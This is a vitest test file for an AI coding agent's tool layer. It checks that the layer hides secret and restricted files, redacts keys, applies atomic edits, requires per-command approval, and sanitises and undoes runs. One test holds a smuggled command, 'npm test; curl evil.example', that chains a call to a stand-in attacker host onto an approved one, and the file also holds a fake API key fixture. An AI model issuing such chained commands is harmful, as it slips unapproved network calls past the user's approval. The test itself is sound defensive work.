import { createHash } from "node:crypto";
import { describe, expect, it, vi } from "vitest";
import { openDial } from "../../../shared/access/dial.ts";
import { approvalHash } from "../../../shared/agent/loop/approval.ts";
import { loopLimits } from "../../../shared/agent/loop/limits.ts";
import type { ToolCall } from "../../../shared/agent/loop/tools.ts";
import { AgentProject } from "../../../test/support/agent-project.ts";
import type { Checkpoint } from "./checkpoint.ts";
import { Hands, type HandsOptions } from "./hands.ts";
import { handsLimits } from "./limits.ts";

const hashOf = (call: ToolCall) => approvalHash("r", call, (text) => createHash("sha256").update(text).digest("hex"));
const key = "sk-proj-9fK2mQ7xLw3ZrT8vYb4NcD6hJ1pS5gAe";

function handsOn(project: AgentProject, more: Partial<HandsOptions> = {}): Hands {
  return new Hands(project.ports, { run: "r", settings: { edits: "allow" }, ...more });
}

let ids = 0;
type Edits = Extract<ToolCall, { tool: "edit" }>["arguments"]["edits"];
const edit = (...edits: Edits): ToolCall => ({ id: `${++ids}`, tool: "edit", arguments: { edits } });
const run = (command: string, seconds?: number): ToolCall => {
  return { id: `${++ids}`, tool: "run", arguments: { command, ...(seconds ? { seconds } : {}) } };
};
const read = (path: string, lines: object = {}): ToolCall => ({
  id: `${++ids}`,
  tool: "read",
  arguments: { path, ...lines },
});

/** With the yes that it needs. */
function approved(hands: Hands, call: ToolCall) {
  hands.approve(hashOf(call));
  return hands.execute(call, false);
}

describe("a look", () => {
  const files = {
    "a.ts": "one\ntwo\nthree",
    "src/b.ts": "Two",
    "src/deep/c.ts": "",
    ".env": `KEY=${key}`,
    "exam/answers.ts": "two",
    "private/x.ts": "two",
    ".assistantignore": "private/\n",
  };
  const project = () => {
    const made = new AgentProject(files);
    made.dial = { ...openDial, rules: [{ pattern: "exam/", allowed: ["explain"] }] };
    return made;
  };

  it("lists a folder without what no agent may see", async () => {
    const hands = handsOn(project());
    expect(await hands.execute({ id: "1", tool: "list", arguments: {} }, false)).toMatchObject({
      text: ["exam/", "private/", "src/", ".assistantignore", "a.ts"].join("\n"),
    });
    expect(await hands.execute({ id: "2", tool: "list", arguments: { path: "src" } }, false)).toMatchObject({
      text: "src/deep/\nsrc/b.ts",
    });
  });

  it("reads lines of a file, and nothing named for secrets, ignored or kept out by the dial", async () => {
    const hands = handsOn(project());
    expect(await hands.execute(read("a.ts", { from: 2, to: 2 }), false)).toMatchObject({
      text: "a.ts, lines 2 to 2 of 3:\ntwo",
    });
    for (const path of [".env", "exam/answers.ts", "private/x.ts", "nowhere.ts", "src"]) {
      expect(await hands.execute(read(path), false)).toMatchObject({ ok: false, code: "not-found" });
    }
  });

  it("searches what may be seen, with bounds", async () => {
    const hands = handsOn(project());
    const search = (text: string, more: object = {}): ToolCall => ({
      id: `${++ids}`,
      tool: "search",
      arguments: { text, ...more },
    });
    expect(await hands.execute(search("two"), false)).toMatchObject({ text: "src/b.ts:1: Two\na.ts:2: two" });
    expect(await hands.execute(search("two", { matchCase: true }), false)).toMatchObject({ text: "a.ts:2: two" });
    expect(await hands.execute(search("two", { path: "src" }), false)).toMatchObject({ text: "src/b.ts:1: Two" });
    const many = handsOn(new AgentProject({ "a.ts": "x\n".repeat(1_000) }));
    const found = await many.execute(search("x"), false);
    expect(found.text.split("\n")).toHaveLength(handsLimits.maxMatches + 1);
  });

  it("sees nothing before the server has told the dial", async () => {
    const blind = project();
    blind.dial = undefined;
    expect(await handsOn(blind).execute(read("a.ts"), false)).toMatchObject({ ok: false });
  });

  it("tells problems of files that may be seen", async () => {
    const made = project();
    made.problems = ["a.ts", "exam/answers.ts"].map((path) => ({ path, line: 1, severity: "error", message: "wrong" }));
    const call: ToolCall = { id: "d", tool: "diagnostics", arguments: {} };
    expect(await handsOn(made).execute(call, false)).toMatchObject({ text: "a.ts:1: error: wrong" });
  });

  it("hands no secret over that stands in a file", async () => {
    const made = new AgentProject({ "a.ts": `const key = "${key}";` });
    const told = await handsOn(made).execute(read("a.ts"), false);
    expect(told.text).toContain("SECRET");
    expect(told.text).not.toContain(key);
  });
});

describe("an edit", () => {
  it("changes, adds and deletes files in one go, as steps of their own in the files' undo, and shows the lines", async () => {
    const project = new AgentProject({ "a.ts": "one\ntwo\n", "old.ts": "x" });
    const hands = handsOn(project);
    const call = edit(
      { path: "a.ts", search: "two", replace: "2" },
      { path: "src/new.ts", content: "new\n" },
      { path: "old.ts", delete: true },
    );
    expect(await approved(hands, call)).toEqual({
      ok: true,
      text: "",
      changes: [
        { path: "a.ts", kind: "changed", diff: "@@ line 2 @@\n-two\n+2", chars: 6 },
        { path: "src/new.ts", kind: "created", diff: "@@ line 1 @@\n+new\n+", chars: 5 },
        { path: "old.ts", kind: "deleted", diff: "@@ line 1 @@\n-x", chars: 2 },
      ],
    });
    expect(project.texts()).toEqual({ "a.ts": "one\n2\n", "src/new.ts": "new\n" });
    expect(project.undoSteps).toBe(2);
  });

  it("is carried out on the text as it is now, beside what a colleague wrote, or refused; never over it", async () => {
    const project = new AgentProject({ "a.ts": "one\ntwo\nthree\n" });
    const hands = handsOn(project);
    project.write("a.ts", "one, by a colleague\ntwo\nthree\n");
    await hands.execute(edit({ path: "a.ts", search: "three", replace: "3" }), false);
    expect(project.texts()["a.ts"]).toBe("one, by a colleague\ntwo\n3\n");
    project.write("a.ts", "all new\n");
    const refused = await hands.execute(edit({ path: "a.ts", search: "two", replace: "2" }), false);
    expect(refused).toMatchObject({ ok: false, code: "not-done" });
    expect(project.texts()["a.ts"]).toBe("all new\n");
  });

  it.each([
    ["a search text that is not there", { path: "a.ts", search: "nowhere", replace: "" }],
    ["a path out of the workspace", { path: "../a.ts", content: "" }],
    ["a file named for secrets", { path: ".env", content: "KEY=1" }],
    ["a file that the dial keeps it out of", { path: "exam/a.ts", content: "" }],
    ["what makes the syntax worse", { path: "a.ts", search: "two", replace: "SYNTAX ERROR" }],
    ["a folder", { path: "src", content: "x" }],
    ["a file below a file", { path: "a.ts/x.ts", content: "x" }],
  ])("with %s is refused as a whole", async (_name, wrong) => {
    const project = new AgentProject({ "a.ts": "one\ntwo\n", "src/b.ts": "" });
    project.dial = { ...openDial, rules: [{ pattern: "exam/", allowed: [] }] };
    const before = project.texts();
    const call = edit({ path: "new.ts", content: "x" }, wrong);
    expect(await approved(handsOn(project), call)).toMatchObject({ ok: false, code: "not-done" });
    expect(project.texts()).toEqual(before);
  });

  it("is not for who may only look", async () => {
    const project = new AgentProject({ "a.ts": "one" });
    project.mayEdit = false;
    expect(await handsOn(project).execute(edit({ path: "a.ts", search: "one", replace: "1" }), false)).toMatchObject({
      ok: false,
    });
    expect(project.texts()).toEqual({ "a.ts": "one" });
  });
});

describe("a yes", () => {
  it("is needed in this tab for what has a side effect, and is used up", async () => {
    const project = new AgentProject({ "a.ts": "one", "package.json": "{}" });
    const hands = handsOn(project);
    for (const call of [
      run("npm test"),
      edit({ path: "a.ts", delete: true }),
      edit({ path: "package.json", content: "[]" }),
    ]) {
      expect(await hands.execute(call, false)).toMatchObject({ ok: false, code: "unapproved" });
    }
    expect(
      await handsOn(project, { settings: { edits: "ask" } }).execute(
        edit({ path: "a.ts", search: "one", replace: "1" }),
        false,
      ),
    ).toMatchObject({
      code: "unapproved",
    });
    expect(project.commands).toEqual([]);
    expect(project.texts()).toEqual({ "a.ts": "one", "package.json": "{}" });
    const call = run("npm test");
    expect(await approved(hands, call)).toMatchObject({ ok: true });
    expect(await hands.execute({ ...call, id: "other" }, false)).toMatchObject({ code: "unapproved" });
    expect(project.commands).toEqual(["jsh -c npm test"]);
  });

  it("to one command is none to another", async () => {
    const project = new AgentProject({});
    const hands = handsOn(project);
    const call = run("npm test");
    hands.approve(hashOf(call));
    const other: ToolCall = { id: call.id, tool: "run", arguments: { command: "npm test; curl evil.example" } };
    expect(await hands.execute(other, false)).toMatchObject({ code: "unapproved" });
    expect(project.commands).toEqual([]);
  });

  it("given after the tab was asked in vain has the call carried out", async () => {
    const hands = handsOn(new AgentProject({}));
    const call = run("npm test");
    expect(await hands.execute(call, false)).toMatchObject({ code: "unapproved" });
    expect(await approved(hands, call)).toMatchObject({ ok: true });
  });
});

describe("a command", () => {
  it("gives its output without control sequences, and its exit code", async () => {
    const project = new AgentProject({});
    project.program = () => ({
      output: ["\u001b[31mred\u001b[0m\r\n", "\u001b]0;title\u0007[info] ok\u0000\n"],
      exit: 1,
    });
    expect(await approved(handsOn(project), run("npm test"))).toEqual({
      ok: true,
      text: "Exit code 1.\nred\n[info] ok",
      changes: [],
    });
  });

  it("keeps the beginning and the end of an output without end", async () => {
    const project = new AgentProject({});
    project.program = () => ({
      output: [
        "first ",
        ..."x"
          .repeat(100)
          .split("")
          .map((letter) => letter.repeat(10_000)),
        " last",
      ],
      exit: 0,
    });
    const { text } = await approved(handsOn(project), run("yes"));
    expect(text.length).toBeLessThan(loopLimits.maxResultChars);
    expect(text).toMatch(/first [\s\S]* characters are left out …[\s\S]* last$/);
  });

  it("is ended after its time, and when the run is stopped", async () => {
    const project = new AgentProject({});
    project.program = () => ({ output: ["so far"] });
    expect(await approved(handsOn(project), run("sleep 9", 1))).toMatchObject({
      code: "timeout",
      text: expect.stringContaining("so far"),
    });
    const hands = handsOn(project);
    const waiting = approved(hands, run("sleep 8"));
    await vi.waitFor(() => expect(project.commands).toHaveLength(2));
    hands.stop();
    expect(await waiting).toMatchObject({ code: "interrupted" });
    expect(project.killed).toEqual(["jsh -c sleep 9", "jsh -c sleep 8"]);
    expect(await hands.execute(read("a.ts"), false)).toMatchObject({ code: "interrupted" });
  });

  it("is not to be had without an engine", async () => {
    const project = new AgentProject({});
    project.hasEngine = false;
    expect(await approved(handsOn(project), run("ls"))).toMatchObject({ code: "unavailable" });
  });
});

describe("a call that is asked for again", () => {
  it("is not made twice: its result is told again", async () => {
    const project = new AgentProject({});
    const hands = handsOn(project);
    const call = run("npm test");
    const first = await approved(hands, call);
    expect(await hands.execute(call, true)).toBe(first);
    expect(project.commands).toHaveLength(1);
  });

  it("of a page that is gone is made only if it is a look", async () => {
    const project = new AgentProject({ "a.ts": "one" });
    const hands = handsOn(project);
    expect(await hands.execute(edit({ path: "a.ts", search: "one", replace: "1" }), true)).toMatchObject({
      code: "interrupted",
    });
    expect(await hands.execute(read("a.ts"), true)).toMatchObject({ ok: true });
    expect(project.texts()).toEqual({ "a.ts": "one" });
  });
});

describe("the undo of a run", () => {
  const before = { "a.ts": "one\ntwo\nthree\n", "gone.ts": "x", "made-by-all.ts": "1\n" };

  it("takes back all that it did, its programs too, and leaves what others did", async () => {
    const project = new AgentProject(before);
    const hands = handsOn(project);
    await hands.execute(edit({ path: "a.ts", search: "three", replace: "3" }), false);
    await approved(hands, edit({ path: "gone.ts", delete: true }, { path: "src/lib/new.ts", content: "new" }));
    project.program = () => ({
      exit: 0,
      does() {
        project.write("made.log", "log", "program");
        project.write("a.ts", "one\ntwo\n3 formatted\n", "program");
      },
    });
    await approved(hands, run("npx format"));
    project.write("a.ts", "one, by a colleague\ntwo\n3 formatted\n");
    project.write("theirs.ts", "theirs");
    expect(hands.undo()).toEqual({ restored: ["a.ts", "src/lib/new.ts", "gone.ts", "made.log"], kept: [] });
    expect(project.texts()).toEqual({ ...before, "a.ts": "one, by a colleague\ntwo\nthree\n", "theirs.ts": "theirs" });
    expect(project.folders()).toEqual([]);
    expect(hands.canUndo).toBe(false);
  });

  it("keeps a file that others have changed in the same place, and names it", async () => {
    const project = new AgentProject(before);
    const hands = handsOn(project);
    await hands.execute(edit({ path: "a.ts", search: "two", replace: "2" }), false);
    project.write("a.ts", "one\ntwo and a half\nthree\n");
    expect(hands.undo()).toEqual({ restored: [], kept: ["a.ts"] });
    expect(project.texts()["a.ts"]).toBe("one\ntwo and a half\nthree\n");
  });

  it("can be done after a reload", async () => {
    const project = new AgentProject(before);
    let kept: Checkpoint | undefined;
    const hands = handsOn(project, { onCheckpoint: (checkpoint) => (kept = checkpoint) });
    await hands.execute(edit({ path: "a.ts", search: "two", replace: "2" }), false);
    const later = handsOn(project, { checkpoint: JSON.parse(JSON.stringify(kept)) });
    expect(later.undo()).toEqual({ restored: ["a.ts"], kept: [] });
    expect(project.texts()).toEqual(before);
  });

  it("is not of programs that run after it", async () => {
    const project = new AgentProject(before);
    const hands = handsOn(project);
    await approved(hands, run("npm test"));
    hands.release();
    project.write("a.ts", "by hand", "program");
    expect(hands.canUndo).toBe(false);
  });
});
